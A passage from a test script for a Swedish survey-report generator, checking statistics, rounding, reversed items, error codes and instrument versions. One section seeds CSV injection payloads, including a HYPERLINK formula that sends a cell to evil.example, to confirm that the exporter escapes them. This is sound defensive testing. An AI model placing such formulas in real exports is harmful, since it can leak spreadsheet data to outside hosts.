					}
					next;
				}
				$pct++;
				for my $k (0 .. 4) {
					my $want = $hp->($c[0][$k]);
					$halves++ if (200 * $c[0][$k]) % (2 * $n) == $n;   # exactly x,5 %
					if ($r->[2 + $k] ne $want) { $bad++; print STDERR "# $what: $r->[2 + $k] %, want $want ($c[0][$k]/$n)\n" }
				}
			}
		}
	}
	my $m = grep { defined $_->[0] } @tests;
	$bad++, print STDERR "# note: $m_note comparisons, table: $m\n" unless $cmp == 0 || (defined $m_note && $m_note == $m);
	for my $t (@tests) { next unless defined $t->[0]; if ($t->[1] < $t->[0] - 1e-9) { $bad++; print STDERR "# Holm below p\n" } }
	print "$cmp $pct $halves $bad $merged $withheld $m\n";
' "$WORK/dist.sql.txt" "$WORK/del.flat" "$WORK/csv-del"/*.csv 2>"$WORK/del-stat.err")
read -r cmp pct halves bad merged withheld mprinted <<<"$res"
# the summary's section exists when a test is printed (all may be withheld)
if [ "${cmp:-0}" -ge 1 ] && [ "${bad:-1}" = 0 ] &&
   { [ "${mprinted:-1}" = 0 ] || grep -qF "Skillnader mellan grupper" "$WORK/del.flat"; }; then
	ok "delrapport: $cmp between-group comparisons of shared statements, n as SQL, exact label by n1 + n2, Holm p beside p ($mprinted printed, the rest withheld with their means)"
else
	not_ok "delrapport: between-group comparisons" "cmp=$cmp bad=$bad $(head -c 800 "$WORK/del-stat.err")"
fi
if [ "${pct:-0}" -ge 20 ] && [ "${bad:-1}" = 0 ]; then
	ok "delrapport: percentages of $pct likert rows (and $merged merged rows) are their counts rounded half away from zero ($halves exact halves; $withheld rows withheld)"
else
	not_ok "delrapport: percentages rounded half away from zero" "rows=$pct bad=$bad $(grep '%, want' "$WORK/del-stat.err" | head -5)"
fi
if ! grep -qF "raderna summerar till 100 (avrundat)" "$WORK/del.flat" &&
   grep -qF "så en rad summerar till mellan 98 och 102" "$WORK/del.flat"; then
	ok "delrapport: the footnote on row sums is one that holds"
else
	not_ok "delrapport: the footnote on row sums is one that holds"
fi
# The summary's most and least favourable items: a reversed item counts its
# answers 1-2, any other its answers 4-5 (counts from SQL, half-up percent).
res=$(perl -CSD -Mutf8 -e '
	my ($dist, $flat) = @ARGV;
	my %d;
	open my $fh, "<:encoding(UTF-8)", $dist or die;
	while (<$fh>) { chomp; my ($sv, $g, @c) = split /\t/; $d{"$sv\t$g"} = [@c]; }
	open my $ff, "<:encoding(UTF-8)", $flat or die; my $text = <$ff>;
	my ($sec) = $text =~ /Mest positiva svar(.*?)Positivt svar:/ or do { print "0 0 1\n"; exit };
	my ($all, $rev, $bad) = (0, 0, 0);
	while ($sec =~ /• (Chefer|Personal|Peer supporters|Patient\/brukare): ”(.*?)”( \(omvänt formulerat\))? – (\d+) % (instämmer inte|instämmer) \(svar (1–2|4–5), n = (\d+)\)\./g) {
		my ($g, $sv, $r, $pct, $verb, $ans, $n) = ($1, $2, $3, $4, $5, $6, $7);
		$all++;
		my $c = $d{"$sv\t$g"} or do { $bad++; print STDERR "# not in SQL: $g $sv\n"; next };
		my $fav = $r ? $c->[0] + $c->[1] : $c->[3] + $c->[4];
		my $want = int((200 * $fav + $n) / (2 * $n));
		$rev++ if $r;
		if ($pct != $want || ($r ? ($verb ne "instämmer inte" || $ans ne "1–2") : ($verb ne "instämmer" || $ans ne "4–5"))) {
			$bad++; print STDERR "# $g $sv: $pct % $verb ($ans), want $want\n";
		}
	}
	print "$all $rev $bad\n";
' "$WORK/dist.sql.txt" "$WORK/del.flat" 2>"$WORK/fav.err")
read -r all rev bad <<<"$res"
if [ "${all:-0}" -ge 4 ] && [ "${rev:-0}" -ge 1 ] && [ "${bad:-1}" = 0 ]; then
	ok "delrapport summary: $all most/least favourable items, $rev of them reversed and counted by answers 1–2"
else
	not_ok "delrapport summary counts reversed items by answers 1–2" "all=$all rev=$rev bad=$bad $(head -c 400 "$WORK/fav.err")"
fi
# Direction: every item the instruments mark reversed is named in Metod
# and marked in its table rows. An item is marked on itself ("reversed") or,
# in instruments stored before that key, in a scale's "reverse" list.
REVERSED="(coalesce((e->>'reversed')::boolean, false) OR e->>'id' IN (SELECT jsonb_array_elements_text(sc->'reverse') FROM jsonb_array_elements(coalesce(i.definition->'scales', '[]')) sc))"
missing=""
while IFS= read -r sv; do
	[ -z "$sv" ] && continue
	grep -qF "”$sv”" "$WORK/del.flat" || missing="$missing [Metod: $sv]"
	grep -qhF "$sv (omvänd)" "$WORK"/csv-del/*.csv || missing="$missing [table: $sv]"
done < <(q "SELECT DISTINCT e->>'sv' FROM wave_instrument wi JOIN wave w USING (wave_id)
	JOIN study s USING (study_id) JOIN instrument i USING (instrument_id, version),
	jsonb_array_elements(i.definition->'items') e
	WHERE s.slug = '$STUDY' AND w.months = $W AND $REVERSED
	AND NOT (e ? 'waves' AND NOT (e->'waves' @> to_jsonb($W)))")
nrev=$(q "SELECT count(DISTINCT e->>'id') FROM instrument i, jsonb_array_elements(i.definition->'items') e WHERE $REVERSED")
if [ -z "$missing" ] && [ "${nrev:-0}" -ge 1 ]; then
	ok "reversed items ($nrev in the instruments) are named in Metod and marked (omvänd) in their tables"
else
	not_ok "reversed items are named in Metod and marked in their tables" "nrev=$nrev missing:$missing"
fi

# ---- a rendered page as an artefact ------------------------------------------
if pdftoppm -q -png -r 70 -f 5 -l 5 "$DEL" "$ART/report-delrapport-page" &&
   pdftoppm -q -png -r 70 -f 3 -l 3 "$SLUT" "$ART/report-slutrapport-page" &&
   ls "$ART"/report-delrapport-page*.png >/dev/null 2>&1; then
	ok "rendered pages kept in $ART"
else
	not_ok "rendered pages kept in $ART"
fi

# ---- errors: messages and exit codes ----------------------------------------------
expect() {   # expect NAME RC PATTERN -- command...
	local name=$1 want=$2 pat=$3; shift 4
	"$@" >"$WORK/out" 2>"$WORK/err"
	local rc=$?
	if [ $rc -eq "$want" ] && grep -qE "$pat" "$WORK/err" "$WORK/out"; then ok "$name"
	else not_ok "$name" "rc=$rc (want $want) $(head -c 300 "$WORK/err")"; fi
}
expect "bad option exits 2" 2 "unknown option --bogus" -- "$BIN" delrapport --wave "$W" --bogus
expect "missing --wave exits 2" 2 "needs --wave" -- "$BIN" delrapport --db "$REPORT_DB"
expect "--min-cell abc exits 2" 2 "min-cell must be" -- "$BIN" slutrapport --min-cell abc
expect "--wave 0 exits 2" 2 "wave must be" -- "$BIN" delrapport --wave 0
expect "unknown report exits 2" 2 "unknown report" -- "$BIN" kvartalsrapport
expect "--help exits 0" 0 "usage: uppfolj-report delrapport" -- "$BIN" --help
expect "no database: exit 1 with advice" 1 "cannot connect to the database.*--db" -- \
	"$BIN" slutrapport --db "host=$WORK/nowhere port=1 dbname=none user=uppfolj_report" -o "$WORK/x.pdf"
expect "unknown study: exit 1 naming the studies" 1 "no study \"nosuchstudy\".*$STUDY" -- \
	"$BIN" slutrapport --study nosuchstudy --db "$REPORT_DB" -o "$WORK/x.pdf"
expect "unknown wave: exit 1 listing the waves" 1 "no wave at 99 months" -- \
	"$BIN" delrapport --wave 99 --study "$STUDY" --db "$REPORT_DB" -o "$WORK/x.pdf"
expect "--lang-dir without the respondent texts: exit 1 naming the folder" 1 \
	"cannot read the respondent texts in $WORK/nowhere.*--lang-dir" -- \
	"$BIN" delrapport --wave "$W" --lang-dir "$WORK/nowhere" --db "$REPORT_DB" -o "$WORK/x.pdf"
expect "--contact over two lines exits 2" 2 "contact must be one line" -- \
	"$BIN" delrapport --wave "$W" --contact "$(printf 'Ring\noss')" --db "$REPORT_DB"
expect "--contact of 401 bytes exits 2" 2 "at most 400 bytes" -- \
	"$BIN" delrapport --wave "$W" --contact "$(head -c 401 /dev/zero | tr '\0' a)" --db "$REPORT_DB"

# An empty wave, in a database of its own so the shared one is not touched.
if psql -X -q -h "$PGHOST" -p "$PGPORT" -U postgres -d postgres -c "CREATE DATABASE $EMPTY_DB" >/dev/null 2>&1 &&
   for f in "${UF_SCHEMA:-$SRC/schema}"/0*.sql; do
	psql -X -q -v ON_ERROR_STOP=1 -h "$PGHOST" -p "$PGPORT" -U postgres -d "$EMPTY_DB" -1 -f "$f" >/dev/null 2>&1 || exit 1
   done &&
   psql -X -q -v ON_ERROR_STOP=1 -h "$PGHOST" -p "$PGPORT" -U postgres -d "$EMPTY_DB" -c "
	INSERT INTO uppfolj.study (slug, name, start_date, synthetic) VALUES ('tom', 'Tom studie', '2024-01-01', true);
	INSERT INTO uppfolj.wave (study_id, months, opens_on, closes_on)
		SELECT study_id, 12, '2025-01-01', '2025-02-01' FROM uppfolj.study;" >/dev/null 2>&1; then
	expect "empty wave: exit 1 with a clear message, no crash" 1 "no submitted responses yet" -- \
		"$BIN" delrapport --wave 12 --db "host=$PGHOST port=$PGPORT dbname=$EMPTY_DB user=uppfolj_report" -o "$WORK/e.pdf"
	[ ! -e "$WORK/e.pdf" ] && ok "empty wave writes no PDF" || not_ok "empty wave writes no PDF"
else
	not_ok "empty wave: could not set up database $EMPTY_DB"
	not_ok "empty wave writes no PDF"
fi

# A revised instrument: chef version 2 (forms/chef.json) at 12 months,
# version 3 (one item dropped, one added) at 36. The slutrapport shows both, each as asked
# only in its own wave. A database of its own again.
VERS_DB="uf_report_versions_$$"
trap '[ -n "${UF_KEEP:-}" ] || rm -rf "$WORK"; for d in $EMPTY_DB $VERS_DB; do psql -X -q -h "$PGHOST" -p "$PGPORT" -U postgres -d postgres -c "DROP DATABASE IF EXISTS $d" >/dev/null 2>&1; done' EXIT
VSQL() { psql -X -q -At -v ON_ERROR_STOP=1 -h "$PGHOST" -p "$PGPORT" -U postgres -d "$VERS_DB" -c "$1"; }
python3 - "$SRC/forms/chef.json" "$WORK/chef-v2.json" "$WORK/chef-items.txt" <<'PY' || exit 1
import json, sys
d = json.load(open(sys.argv[1]))
gone = next(i for i in d["items"] if i["id"] == "chef_erf_roll_tydlig")
d["items"].remove(gone)
assert d["version"] == 2, "forms/chef.json is version %d: update this test" % d["version"]
d["version"] = 3
d["items"].append({"id": "chef_erf_ny_fraga", "theme": gone["theme"], "type": "likert5",
	"sv": "Peer supportern deltar i arbetsplatsträffarna.", "required": False, "dont_know": True})
json.dump(d, open(sys.argv[2], "w"), ensure_ascii=False)
open(sys.argv[3], "w").write(gone["sv"] + "\n")
PY
if psql -X -q -h "$PGHOST" -p "$PGPORT" -U postgres -d postgres -c "CREATE DATABASE $VERS_DB" >/dev/null 2>&1 &&
   "$BUILD/admin/uppfolj-admin" migrate --db "host=$PGHOST port=$PGPORT dbname=$VERS_DB user=postgres" \
	--schema "${UF_SCHEMA:-$SRC/schema}" >/dev/null 2>&1 &&
   "$BUILD/admin/uppfolj-admin" forms-load --db "host=$PGHOST port=$PGPORT dbname=$VERS_DB user=postgres" \
	"$SRC/forms/chef.json" "$WORK/chef-v2.json" >/dev/null 2>&1 &&
   VSQL "SET search_path = uppfolj;
	INSERT INTO study (slug, name, start_date, synthetic) VALUES ('versioner', 'Versioner', '2023-01-01', true);
	INSERT INTO unit (study_id, name, kind, huvudman, report_label)
		SELECT study_id, 'Avdelning V', 'heldygnsvard', 'region', 'psykiatri, heldygnsvård' FROM study;
	INSERT INTO wave (study_id, months, opens_on, closes_on)
		SELECT study_id, m, '2024-01-01'::date + (m - 12) * 30, '2024-02-01'::date + (m - 12) * 30
		FROM study, (VALUES (12), (36)) v(m);
	INSERT INTO wave_instrument (wave_id, grp, instrument_id, version)
		SELECT wave_id, 'chef', 'chef', CASE months WHEN 12 THEN 2 ELSE 3 END FROM wave;
	INSERT INTO participant (study_id, panel_id, grp, unit_id, synthetic)
		SELECT study_id, 'V-VERS0' || k, 'chef', unit_id, true FROM unit, generate_series(1, 6) k;
	INSERT INTO consent (participant_id, wave_id, info_version, decision)
		SELECT participant_id, wave_id, 'test', 'given' FROM participant, wave;
	INSERT INTO response (submission_id, participant_id, wave_id, instrument_id, version, status, submitted_at)
		SELECT gen_random_uuid(), p.participant_id, w.wave_id, 'chef', wi.version, 'submitted', w.opens_on + 1
		FROM participant p, wave w JOIN wave_instrument wi USING (wave_id);
	INSERT INTO answer (response_id, instrument_id, version, item_id, value_int)
		SELECT r.response_id, 'chef', r.version, ii.item_id, CASE r.version WHEN 2 THEN 4 ELSE 2 END
		FROM response r JOIN instrument_item ii ON ii.instrument_id = 'chef' AND ii.version = r.version
		WHERE ii.item_type = 'likert5';" >/dev/null; then
	"$BIN" slutrapport --db "host=$PGHOST port=$PGPORT dbname=$VERS_DB user=uppfolj_report" \
		-o "$WORK/vers.pdf" --csv "$WORK/csv-vers" --quiet 2>"$WORK/vers.err"
	check "slutrapport over two versions of an instrument generates" [ -s "$WORK/vers.pdf" ]
	gone=$(cat "$WORK/chef-items.txt")
	# The dropped item: in the table of its theme, asked at 12 only, 6 answers
	# of 4; all six gave the same answer, so n is printed and the
	# distribution withheld (·); Vet ej and Vill ej 0.
	grep -h -A1 -F "$gone (ställd bara vid 12 månader)" "$WORK"/csv-vers/*.csv >"$WORK/vers-gone.txt"
	check "an item dropped in the newer version is still reported, as asked at 12 months" \
		grep -q '^12 månader,6,·,·,·,·,·,0,0,·,·,·' "$WORK/vers-gone.txt"
	grep -h -A1 -F "Peer supportern deltar i arbetsplatsträffarna. (ställd bara vid 36 månader)" \
		"$WORK"/csv-vers/*.csv >"$WORK/vers-new.txt"
	check "an item added in the newer version is reported, as asked at 36 months" \
		grep -q '^36 månader,6,·,·,·,·,·,0,0,·,·,·' "$WORK/vers-new.txt"
	both=$(grep -h -F "Beslutet att införa peer support var väl förankrat hos ledningen." -A2 \
		"$WORK"/csv-vers/*.csv | grep -c -E '^(12|36) månader,6,')
	check "an item in both versions has both waves" [ "$both" = 2 ]
	# Six managers all moved from 4 to 2: six negative differences tied at
	# |2|. The exact two-sided Pratt p is 2/2^6 = 0,03125 (all signs alike);
	# the normal approximation would say 0,014 (T+ = 0, E = 10,5,
	# Var = 22,75 - 210/48 = 18,375, Z = -2,449).
	# Every answer 4 at 12 months: "Organisatoriskt stöd för rollen" has 7
	# items, chef_impl_ansvar_oklart reversed (the item's own mark in
	# version 2), so each score is (6 x 4 + 2) / 7 = 3,71.
	grep -h -A1 -F "Organisatoriskt stöd för rollen" "$WORK"/csv-vers/*.csv >"$WORK/vers-scale.txt"
	check "a scale reverses the item marked reversed: 12 months (6 x 4 + 2) / 7 = 3,71" \
		grep -q '^12 månader,6,"3,71","3,71","3,71 – 3,71"' "$WORK/vers-scale.txt"
	# All six gave one answer at each wave, so the disclosure rule withholds
	# both distributions and with them M, Δ M, its CI and the test of them:
	# p 0,031 and r = -1 would say that all six went down (·).
	check "6 pairs all down: M, Δ M, CI, p, p (Holm) and r withheld with the withheld distributions" \
		grep -q '^Beslutet att införa peer support var väl förankrat hos ledningen\.,12–36,"Parad, exakt",6 par,·,·,·,·,·,·'$'\r''\?$' \
		"$WORK"/csv-vers/*.csv
	# The scale "Förberedelse" went from 4 to 2 for all six: its means are
	# printed (Δ M -2,00), but with 6 pairs all one way, CI, p and r are not.
	check "a scale's change of 6 pairs all one way prints Δ M but withholds CI, p and r" \
		grep -q '^Förberedelse[^,]*,12–36,"Parad, exakt",6 par,"4,00 → 2,00","-2,00",·,·,·,·' \
		"$WORK"/csv-vers/*.csv
	pdftotext -q "$WORK/vers.pdf" - 2>/dev/null | tr '\n' ' ' | tr -s ' ' >"$WORK/vers.txt"
	check "Metod says which version each wave used" \
		grep -q "Enkäten för chefer ändrades under utvärderingen: version 2 vid 12 månader, version 3 vid 36 månader." "$WORK/vers.txt"
	check "a report of one version says nothing of versions" \
		bash -c '! grep -q "ändrades under utvärderingen" "$1"' _ "$WORK/slut.txt"
	# ---- formula cells in the CSV tables (the one CSV writer, lib/csv.c) ----
	# Unit report labels are typed by an administrator and printed in the
	# table of respondents per kind of unit: each of OWASP's CSV injection
	# triggers (= + - @ TAB CR) and the HYPERLINK that sends a cell away
	# becomes a label with one participant of its own.
	if VSQL "SET search_path = uppfolj;
		INSERT INTO participant (study_id, panel_id, grp, unit_id, synthetic)
			SELECT study_id, 'V-VERS07', 'chef', unit_id, true FROM unit;
		INSERT INTO consent (participant_id, wave_id, info_version, decision)
			SELECT participant_id, wave_id, 'test', 'given' FROM participant, wave
			WHERE panel_id = 'V-VERS07';
		INSERT INTO response (submission_id, participant_id, wave_id, instrument_id, version, status, submitted_at)
			SELECT gen_random_uuid(), p.participant_id, w.wave_id, 'chef', wi.version, 'submitted', w.opens_on + 1
			FROM participant p, wave w JOIN wave_instrument wi USING (wave_id) WHERE p.panel_id = 'V-VERS07';
		INSERT INTO answer (response_id, instrument_id, version, item_id, value_int)
			SELECT r.response_id, 'chef', r.version, ii.item_id, CASE r.version WHEN 2 THEN 4 ELSE 2 END
			FROM response r JOIN participant p USING (participant_id)
			JOIN instrument_item ii ON ii.instrument_id = 'chef' AND ii.version = r.version
			WHERE ii.item_type = 'likert5' AND p.panel_id = 'V-VERS07';
		WITH pay(k, v) AS (VALUES (1, '=1+1'), (2, '+1+1'), (3, '-1+1'), (4, '@SUM(1+1)'),
			(5, E'\t=1+1'), (6, E'\r=1+1'), (7, '=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Klicka\")'))
		INSERT INTO unit (study_id, name, kind, huvudman, report_label)
			SELECT study_id, 'Formel ' || k, 'heldygnsvard', 'region', v FROM study, pay;
		UPDATE participant p SET unit_id = u.unit_id FROM unit u
			WHERE u.name = 'Formel ' || right(p.panel_id, 1)::int;" >/dev/null; then
		"$BIN" delrapport --wave 12 --db "host=$PGHOST port=$PGPORT dbname=$VERS_DB user=uppfolj_report" \
			-o "$WORK/formula.pdf" --csv "$WORK/csv-formula" --quiet 2>"$WORK/formula.err"
		bad=$(python3 - "$WORK"/csv-formula/*.csv <<'PY' 2>&1
import csv, re, sys
cells = set()
for f in sys.argv[1:]:
	cells.update(c for row in csv.reader(open(f, newline="", encoding="utf-8"), strict=True) for c in row)
for p in ["=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1",
		'=HYPERLINK("http://evil.example/?d="&A1,"Klicka")']:
	if "'" + p not in cells: print("missing with ': %r" % p)
	if p in cells: print("bare: %r" % p)
for c in cells:
	if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"[-+]?[0-9]+([.,][0-9]+)?", c):
		print("formula cell: %r" % c[:40])
PY
)
		check "delrapport --csv: formula labels (= + - @ tab CR, HYPERLINK) get a leading ' and none is bare" \
			[ -n "$(ls "$WORK"/csv-formula/*.csv 2>/dev/null)" -a -z "$bad" ]
		[ -z "$bad" ] || printf '# %s\n' "$bad" | head -n 10
	else
		not_ok "formula labels: could not set up units in $VERS_DB"
	fi
	# A negative figure of the program's own stays a number: chef items fell
	# from 4 (version 2, 12 months) to 2 (version 3, 36 months).
	neg=$(python3 - "$WORK"/csv-vers/*.csv <<'PY' 2>&1
import csv, sys
cells = [c for f in sys.argv[1:] for row in csv.reader(open(f, newline="", encoding="utf-8")) for c in row]
print(sum(c == "-2,00" for c in cells), sum(c == "'-2,00" for c in cells))
PY
)
	check "slutrapport --csv: the change -2,00 is written as a number, without ' ($neg)" \
		[ "${neg% *}" -gt 0 -a "${neg#* }" = 0 ]
else
	not_ok "versions: could not set up database $VERS_DB"
fi

# ---- "Vet ej" and "Vill ej" counted apart, against plain SQL --------------------
# Per patient likert item at wave W: how many said "Vet ej / ej aktuellt" and
# how many "Vill inte svara", straight from the answer table; the delrapport's
# CSV must give the same two counts in its Vet ej and Vill ej columns.
qt "SELECT e->>'sv', count(*) FILTER (WHERE a.dont_know), count(*) FILTER (WHERE a.declined)
	$SUBMITTED JOIN participant p ON p.participant_id = r.participant_id
	JOIN instrument i ON i.instrument_id = a.instrument_id AND i.version = a.version
	CROSS JOIN LATERAL jsonb_array_elements(i.definition->'items') e
	WHERE w.months = $W AND p.grp = 'patient' AND e->>'id' = a.item_id AND e->>'type' = 'likert5'
	GROUP BY 1" >"$WORK/novalue.sql.txt"
res=$(python3 - "$WORK/novalue.sql.txt" "$WORK"/csv-del/*.csv <<'PY'
import csv, sys
want = {}
for line in open(sys.argv[1], encoding="utf-8"):
    sv, dk, dc = line.rstrip("\n").split("\t")
    want[sv] = (dk, dc)
rows = bad = declined = 0
for f in sys.argv[2:]:
    recs = list(csv.reader(open(f, newline="", encoding="utf-8")))
    if not recs or "Vill ej" not in recs[0]:
        continue
    dk_col, dc_col = recs[0].index("Vet ej"), recs[0].index("Vill ej")
    for r in recs[1:]:
        if r[0] not in want or not r[dc_col].isdigit():
            continue
        rows += 1
        declined += int(r[dc_col])
        if (r[dk_col], r[dc_col]) != want[r[0]]:
            bad += 1
            print("# %s: CSV %s/%s, SQL %s/%s" % (r[0][:50], r[dk_col], r[dc_col], *want[r[0]]),
                  file=sys.stderr)
print(rows, bad, declined)
PY
)
read -r nvrows nvbad nvdeclined <<<"$res"
if [ "${nvrows:-0}" -ge 10 ] && [ "${nvbad:-1}" = 0 ] && [ "${nvdeclined:-0}" -gt 0 ]; then
	ok "delrapport: Vet ej and Vill ej counted apart for $nvrows patient items ($nvdeclined declined) match SQL"
else
	not_ok "delrapport: Vet ej and Vill ej counted apart match SQL" "rows=$res"
fi
# ---- negatively worded items named in Metod --------------------------------------
# Version 2 of the staff instruments marks each negatively worded item once
# ("reversed": true); the slutrapport names every one of them, the
# delrapport those asked in its wave.
for kind in slut del; do
	rev=$(python3 - "$SRC/forms" "$WORK/$kind.flat" "$([ $kind = del ] && echo "$W")" <<'PY'
import json, sys
text = open(sys.argv[2], encoding="utf-8").read()
wave = int(sys.argv[3]) if sys.argv[3] else None
items = [it["sv"] for f in ("chef", "personal", "peer")
         for d in [json.load(open("%s/%s.json" % (sys.argv[1], f), encoding="utf-8"))]
         for it in d["items"]
         if it.get("reversed") and (wave is None or wave in it.get("waves", d["waves"]))]
missing = [s for s in items if "”%s”" % s not in text.split("Omvända påståenden:", 1)[-1]]
print(len(items), len(missing), "Omvända påståenden:" in text)
PY
)
	read -r nrev nmiss hashead <<<"$rev"
	check "${kind}rapport: Metod names all $nrev negatively worded items of the staff instruments asked" \
		[ "${nrev:-0}" -ge "$([ $kind = slut ] && echo 7 || echo 4)" -a "${nmiss:-1}" = 0 -a "$hashead" = True ]
done

# ---- the respondents' languages (response.lang and easy, migration 0021) ----
# shellcheck source=tests/reports/lang.sh
. "$SRC/tests/reports/lang.sh"

# ---- the printable questionnaire ------------------------------------------------
# shellcheck source=tests/reports/questionnaire.sh
. "$SRC/tests/reports/questionnaire.sh"

# ---- disclosure control over a small study ------------------------------------
# shellcheck source=tests/reports/disclosure.sh
. "$SRC/tests/reports/disclosure.sh"

# ---- the qualitative analysis and the evaluators' text ----------------------
# shellcheck source=tests/reports/qual.sh
. "$SRC/tests/reports/qual.sh"
# shellcheck source=tests/reports/compare.sh
. "$SRC/tests/reports/compare.sh"

echo "1..$n"
[ $failed -eq 0 ]
